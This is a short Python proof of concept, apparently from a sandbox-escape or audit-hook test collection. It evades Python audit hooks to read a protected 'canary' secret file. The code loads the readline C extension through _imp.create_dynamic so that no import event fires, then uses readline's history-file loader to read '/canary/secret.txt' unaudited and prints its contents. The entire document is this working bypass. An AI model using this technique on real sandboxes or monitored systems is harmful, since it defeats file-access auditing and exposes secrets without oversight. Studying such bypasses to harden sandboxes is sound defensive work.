# READ: load readline via _imp.create_dynamic (no import event) and let libreadline read the canary as a history file (unaudited C read)
import sys
_imp = sys.modules['_imp']
Spec = type(sys.__spec__)
spec = Spec('readline', None, origin='/usr/lib/python3.11/lib-dynload/readline.cpython-311-x86_64-linux-gnu.so')
rl = _imp.create_dynamic(spec)
print(rl)
rl.read_history_file('/canary/secret.txt')
for i in range(1, rl.get_current_history_length() + 1):
    print(rl.get_history_item(i))
